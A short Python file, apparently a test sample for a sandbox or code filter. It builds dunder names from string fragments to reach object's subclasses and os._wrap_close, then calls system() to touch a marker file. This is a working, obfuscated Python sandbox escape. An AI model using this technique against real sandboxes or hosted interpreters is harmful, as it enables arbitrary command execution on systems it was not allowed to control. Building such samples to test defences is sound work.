"""file: dunder names put together from parts."""

base = getattr(getattr((), "__cl" + "ass__"), "__ba" + "se__")
subclasses = getattr(base, "_" * 2 + "subclasses" + "__")()
for c in subclasses:
    if getattr(c, "__name" + "__") == "_wrap_close":
        names = getattr(getattr(c, "__in" + "it__"), "__glo" + "bals__")
        x = names["sys" + "tem"]("touch pwned_computed_getattr")
